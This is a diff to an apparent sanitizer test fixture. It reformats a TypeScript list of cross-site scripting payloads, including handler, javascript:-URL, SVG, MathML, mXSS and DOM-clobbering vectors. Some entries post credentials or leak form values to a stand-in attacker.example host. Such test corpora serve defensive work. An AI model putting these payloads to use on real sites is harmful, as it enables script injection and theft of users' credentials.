@@ -44,7 +44,10 @@ export const xssVectors: XssVector[] = [
   { name: 'img newline before handler', html: '<img src=x\nonerror=__xss(21)>' },
   { name: 'img handler entity encoded', html: '<img src=x onerror="&#95;&#95;xss(22)">' },
   { name: 'img handler hex entities no semicolon', html: '<img src=x onerror=&#x5f&#x5fxss(23)>' },
-  { name: 'img onload valid data image', html: '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="__xss(24)">' },
+  {
+    name: 'img onload valid data image',
+    html: '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="__xss(24)">',
+  },
   { name: 'svg onload', html: '<svg onload="__xss(25)"></svg>' },
   { name: 'svg slash onload', html: '<svg/onload=__xss(26)>' },
   { name: 'body onload', html: '<body onload="__xss(27)">' },
@@ -64,7 +67,10 @@ export const xssVectors: XssVector[] = [
   { name: 'style onload', html: '<style onload="__xss(41)"></style>' },
   { name: 'link stylesheet onload', html: '<link rel="stylesheet" href="data:text/css," onload="__xss(42)">' },
   { name: 'animation onanimationstart', html: '<style>@keyframes xss{}</style><div style="animation-name:xss" onanimationstart="__xss(43)">x</div>' },
-  { name: 'fullscreen div onmouseover', html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647" onmouseover="__xss(44)">x</div>' },
+  {
+    name: 'fullscreen div onmouseover',
+    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647" onmouseover="__xss(44)">x</div>',
+  },
   { name: 'a onclick', html: '<a href="#" onclick="__xss(45)">click me</a>' },
   { name: 'hidden input accesskey onclick', html: '<input type="hidden" accesskey="x" onclick="__xss(46)">' },
   { name: 'svg animate onbegin', html: '<svg><animate onbegin="__xss(47)" attributeName="x" dur="1s"></animate></svg>' },
@@ -76,7 +82,10 @@ export const xssVectors: XssVector[] = [
 
   // javascript: URLs in URL-bearing attributes
   { name: 'a href javascript', html: '<a href="javascript:__xss(53)">click</a>' },
-  { name: 'area href javascript', html: '<map name="xss"><area shape="rect" coords="0,0,9999,9999" href="javascript:__xss(54)"></map><img usemap="#xss" src="x" width="500" height="500">' },
+  {
+    name: 'area href javascript',
+    html: '<map name="xss"><area shape="rect" coords="0,0,9999,9999" href="javascript:__xss(54)"></map><img usemap="#xss" src="x" width="500" height="500">',
+  },
   { name: 'form action javascript', html: '<form action="javascript:__xss(55)"><input type="submit" value="go"></form>' },
   { name: 'button formaction javascript', html: '<form><button formaction="javascript:__xss(56)">go</button></form>' },
   { name: 'input submit formaction javascript', html: '<form><input type="submit" formaction="javascript:__xss(57)" value="go"></form>' },
@@ -100,16 +109,25 @@ export const xssVectors: XssVector[] = [
   { name: 'svg use xlink:href javascript uppercase', html: '<svg><use xlink:href="JAVASCRIPT:__xss(75)"></use></svg>' },
   { name: 'math href javascript', html: '<math href="javascript:__xss(76)"><mi>click</mi></math>' },
   { name: 'math mi xlink:href javascript', html: '<math><mi xlink:href="javascript:__xss(77)">click</mi></math>' },
-  { name: 'math maction xlink:href javascript', html: '<math><maction actiontype="statusline" xlink:href="javascript:__xss(78)">click</maction></math>' },
+  {
+    name: 'math maction xlink:href javascript',
+    html: '<math><maction actiontype="statusline" xlink:href="javascript:__xss(78)">click</maction></math>',
+  },
   { name: 'blockquote cite javascript', html: '<blockquote cite="javascript:__xss(79)">quote</blockquote>' },
   { name: 'q cite javascript', html: '<q cite="javascript:__xss(80)">quote</q>' },
   { name: 'del and ins cite javascript', html: '<del cite="javascript:__xss(81)">a</del><ins cite="javascript:__xss(81)">b</ins>' },
   { name: 'a href javascript target blank rel opener', html: '<a href="javascript:__xss(82)" target="_blank" rel="opener">click</a>' },
   { name: 'a href javascript target top', html: '<a href="javascript:__xss(83)" target="_top" rel="noopener noreferrer">click</a>' },
-  { name: 'a href javascript targeting named iframe', html: '<iframe name="xssframe"></iframe><a href="javascript:parent.__xss(84)" target="xssframe">click</a>' },
+  {
+    name: 'a href javascript targeting named iframe',
+    html: '<iframe name="xssframe"></iframe><a href="javascript:parent.__xss(84)" target="xssframe">click</a>',
+  },
   { name: 'a reverse tabnabbing rel opener', html: '<a href="https://attacker.example/tabnab" target="_blank" rel="opener">read more</a>' },
   { name: 'a ping tracking', html: '<a href="https://site.example/" ping="https://attacker.example/ping">link</a>' },
-  { name: 'form credential hijack', html: '<form action="https://attacker.example/steal" method="post"><input name="username"><input name="password" type="password"><button>Log in</button></form>' },
+  {
+    name: 'form credential hijack',
+    html: '<form action="https://attacker.example/steal" method="post"><input name="username"><input name="password" type="password"><button>Log in</button></form>',
+  },
 
   // javascript: scheme obfuscation
   { name: 'href mixed case scheme', html: '<a href="JaVaScRiPt:__xss(88)">click</a>' },
@@ -133,7 +151,10 @@ export const xssVectors: XssVector[] = [
   { name: 'href vbscript', html: '<a href="vbscript:__xss(106)">click</a>' },
   { name: 'href vbscript uppercase', html: '<a href="VBSCRIPT:MsgBox(__xss(107))">click</a>' },
   { name: 'href data text/html base64', html: '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTA4KTwvc2NyaXB0Pg==">click</a>' },
-  { name: 'iframe src data text/html base64', html: '<iframe src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTA5KTwvc2NyaXB0Pg=="></iframe>' },
+  {
+    name: 'iframe src data text/html base64',
+    html: '<iframe src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTA5KTwvc2NyaXB0Pg=="></iframe>',
+  },
   { name: 'iframe src data text/html plain', html: '<iframe src="data:text/html,&lt;script&gt;__xss(110)&lt;/script&gt;"></iframe>' },
   { name: 'object data text/html base64', html: '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTExKTwvc2NyaXB0Pg=="></object>' },
   { name: 'embed src data text/html base64', html: '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTEyKTwvc2NyaXB0Pg==">' },
@@ -142,11 +163,26 @@ export const xssVectors: XssVector[] = [
   { name: 'svg a xlink:href entity javascript', html: '<svg><a xlink:href="&#x6A;avascript:__xss(115)"><text x="20" y="20">click</text></a></svg>' },
 
   // SVG
-  { name: 'svg animate attributeName href', html: '<svg><a><animate attributeName="href" values="javascript:__xss(116)"></animate><text x="20" y="20">click</text></a></svg>' },
-  { name: 'svg animate xlink:href from to', html: '<svg><a><animate attributeName="xlink:href" begin="0" from="javascript:__xss(117)" to="&"></animate><text x="20" y="20">click</text></a></svg>' },
-  { name: 'svg set attributeName href', html: '<svg><a><set attributeName="href" to="javascript:__xss(118)"></set><text x="20" y="20">click</text></a></svg>' },
-  { name: 'svg set attributeName onmouseover', html: '<svg><rect width="1000" height="1000"><set attributeName="onmouseover" to="__xss(119)"></set></rect></svg>' },
-  { name: 'svg foreignObject img onerror', html: '<svg><foreignObject width="100" height="100"><img src="x" onerror="__xss(120)"></foreignObject></svg>' },
+  {
+    name: 'svg animate attributeName href',
+    html: '<svg><a><animate attributeName="href" values="javascript:__xss(116)"></animate><text x="20" y="20">click</text></a></svg>',
+  },
+  {
+    name: 'svg animate xlink:href from to',
+    html: '<svg><a><animate attributeName="xlink:href" begin="0" from="javascript:__xss(117)" to="&"></animate><text x="20" y="20">click</text></a></svg>',
+  },
+  {
+    name: 'svg set attributeName href',
+    html: '<svg><a><set attributeName="href" to="javascript:__xss(118)"></set><text x="20" y="20">click</text></a></svg>',
+  },
+  {
+    name: 'svg set attributeName onmouseover',
+    html: '<svg><rect width="1000" height="1000"><set attributeName="onmouseover" to="__xss(119)"></set></rect></svg>',
+  },
+  {
+    name: 'svg foreignObject img onerror',
+    html: '<svg><foreignObject width="100" height="100"><img src="x" onerror="__xss(120)"></foreignObject></svg>',
+  },
   { name: 'svg foreignObject script', html: '<svg><foreignObject><script>__xss(121)</script></foreignObject></svg>' },
   { name: 'svg script', html: '<svg><script>__xss(122)</script></svg>' },
   { name: 'svg script entity encoded body', html: '<svg><script>&#95;&#95;xss&#40;123&#41;</script></svg>' },
@@ -159,11 +195,23 @@ export const xssVectors: XssVector[] = [
 
   // MathML namespace confusion
   { name: 'mathml mglyph style namespace confusion', html: '<math><mtext><table><mglyph><style><img src=x onerror=__xss(130)>' },
-  { name: 'mathml mglyph style comment title', html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(131)&gt;">' },
+  {
+    name: 'mathml mglyph style comment title',
+    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(131)&gt;">',
+  },
   { name: 'mathml malignmark style', html: '<math><mtext><table><malignmark><style><img src=x onerror=__xss(132)>' },
-  { name: 'mathml nested h1 a h6 mglyph svg', html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=__xss(133)>"></style></h1>' },
-  { name: 'mathml annotation-xml text/html', html: '<math><annotation-xml encoding="text/html"><img src="x" onerror="__xss(134)"></annotation-xml></math>' },
-  { name: 'mathml annotation-xml svg style', html: '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=__xss(135)></style></annotation-xml></math>' },
+  {
+    name: 'mathml nested h1 a h6 mglyph svg',
+    html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=__xss(133)>"></style></h1>',
+  },
+  {
+    name: 'mathml annotation-xml text/html',
+    html: '<math><annotation-xml encoding="text/html"><img src="x" onerror="__xss(134)"></annotation-xml></math>',
+  },
+  {
+    name: 'mathml annotation-xml svg style',
+    html: '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=__xss(135)></style></annotation-xml></math>',
+  },
   { name: 'mathml mtext img', html: '<math><mtext><img src="x" onerror="__xss(136)"></mtext></math>' },
 
   // mXSS / parser differentials
@@ -196,23 +244,44 @@ export const xssVectors: XssVector[] = [
   // srcdoc
   { name: 'iframe srcdoc escaped script', html: '<iframe srcdoc="&lt;script&gt;parent.__xss(162)&lt;/script&gt;"></iframe>' },
   { name: 'iframe srcdoc raw img onerror', html: '<iframe srcdoc="<img src=x onerror=parent.__xss(163)>"></iframe>' },
-  { name: 'iframe srcdoc double encoded', html: '<iframe srcdoc="&amp;lt;img src=x onerror=parent.__xss(164)&amp;gt;&lt;script&gt;parent.__xss(164)&lt;/script&gt;"></iframe>' },
-  { name: 'iframe srcdoc with sandbox allow-scripts same-origin', html: '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;svg onload=parent.__xss(165)&gt;"></iframe>' },
+  {
+    name: 'iframe srcdoc double encoded',
+    html: '<iframe srcdoc="&amp;lt;img src=x onerror=parent.__xss(164)&amp;gt;&lt;script&gt;parent.__xss(164)&lt;/script&gt;"></iframe>',
+  },
+  {
+    name: 'iframe srcdoc with sandbox allow-scripts same-origin',
+    html: '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;svg onload=parent.__xss(165)&gt;"></iframe>',
+  },
 
   // <base> and <meta>
   { name: 'base href attacker host', html: '<base href="https://attacker.example/"><script src="/article.js"></script><a href="/login">log in</a>' },
   { name: 'base target top', html: '<base href="https://attacker.example/" target="_top">' },
   { name: 'meta refresh javascript', html: '<meta http-equiv="refresh" content="0;url=javascript:__xss(168)">' },
-  { name: 'meta refresh data url', html: '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTY5KTwvc2NyaXB0Pg==">' },
+  {
+    name: 'meta refresh data url',
+    html: '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTY5KTwvc2NyaXB0Pg==">',
+  },
   { name: 'meta refresh attacker host', html: '<meta http-equiv="refresh" content="0; url=https://attacker.example/phish">' },
-  { name: 'meta content security policy override', html: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' 'unsafe-eval' *"><script>__xss(171)</script>` },
+  {
+    name: 'meta content security policy override',
+    html: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' 'unsafe-eval' *"><script>__xss(171)</script>`,
+  },
   { name: 'meta set-cookie', html: '<meta http-equiv="Set-Cookie" content="session=attacker; path=/">' },
   { name: 'meta charset utf-7', html: '<meta charset="UTF-7">+ADw-script+AD4-__xss(173)+ADw-/script+AD4-' },
 
   // <object> / <embed>
-  { name: 'object type text/html data url', html: '<object type="text/html" data="data:text/html,&lt;script&gt;__xss(174)&lt;/script&gt;"></object>' },
-  { name: 'embed flash allowscriptaccess', html: '<embed src="https://attacker.example/xss.swf" type="application/x-shockwave-flash" allowscriptaccess="always">' },
-  { name: 'object classid', html: '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" value="javascript:__xss(176)"></object>' },
+  {
+    name: 'object type text/html data url',
+    html: '<object type="text/html" data="data:text/html,&lt;script&gt;__xss(174)&lt;/script&gt;"></object>',
+  },
+  {
+    name: 'embed flash allowscriptaccess',
+    html: '<embed src="https://attacker.example/xss.swf" type="application/x-shockwave-flash" allowscriptaccess="always">',
+  },
+  {
+    name: 'object classid',
+    html: '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" value="javascript:__xss(176)"></object>',
+  },
   { name: 'embed src entity javascript', html: '<embed src="&#106;avascript:parent.__xss(177)">' },
 
   // <style> tags and style attributes
@@ -223,13 +292,19 @@ export const xssVectors: XssVector[] = [
   { name: 'style moz-binding', html: '<style>body{-moz-binding:url(https://attacker.example/xss.xml#xss)}</style>' },
   { name: 'style background javascript url', html: '<style>body{background-image:url("javascript:__xss(183)")}</style>' },
   { name: 'style attribute exfiltration', html: '<style>input[value^="a"]{background:url(https://attacker.example/leak?a)}</style>' },
-  { name: 'style page takeover', html: '<style>body>*{display:none!important}body::after{content:"Session expired, log in at attacker.example";display:block}</style>' },
+  {
+    name: 'style page takeover',
+    html: '<style>body>*{display:none!important}body::after{content:"Session expired, log in at attacker.example";display:block}</style>',
+  },
   { name: 'style attribute url javascript', html: '<div style="background-image:url(javascript:__xss(186))">x</div>' },
   { name: 'style attribute expression', html: '<div style="width:expression(__xss(187))">x</div>' },
   { name: 'style attribute css escapes', html: '<div style="background:url(\\6a\\61vascript:__xss(188))">x</div>' },
   { name: 'style attribute entity javascript', html: '<div style="background:url(&#106;avascript:__xss(189))">x</div>' },
   { name: 'style attribute comment split expression', html: '<div style="width:expr/**/ession(__xss(190))">x</div>' },
-  { name: 'style attribute overlay', html: '<a href="javascript:__xss(191)" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0">x</a>' },
+  {
+    name: 'style attribute overlay',
+    html: '<a href="javascript:__xss(191)" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0">x</a>',
+  },
 
   // <link>
   { name: 'link rel import', html: '<link rel="import" href="data:text/html,&lt;script&gt;__xss(192)&lt;/script&gt;">' },
@@ -247,7 +322,10 @@ export const xssVectors: XssVector[] = [
   { name: 'clobber form attributes', html: '<form id="f"><input name="attributes"><input name="nodeName"><input name="parentNode"></form>' },
   { name: 'clobber config url collection', html: '<a id="config"></a><a id="config" name="url" href="javascript:__xss(203)"></a>' },
   { name: 'clobber window global via anchor href', html: '<a id="scriptUrl" href="data:text/javascript,__xss(204)"></a>' },
-  { name: 'clobber nested iframe name', html: '<iframe name="xssConfig" srcdoc="&lt;a id=src href=javascript:parent.__xss(205)&gt;&lt;/a&gt;"></iframe>' },
+  {
+    name: 'clobber nested iframe name',
+    html: '<iframe name="xssConfig" srcdoc="&lt;a id=src href=javascript:parent.__xss(205)&gt;&lt;/a&gt;"></iframe>',
+  },
 
   // Entities, null bytes, unclosed tags
   { name: 'entity escaped markup double decode', html: '&lt;img src=x onerror=__xss(206)&gt;' },
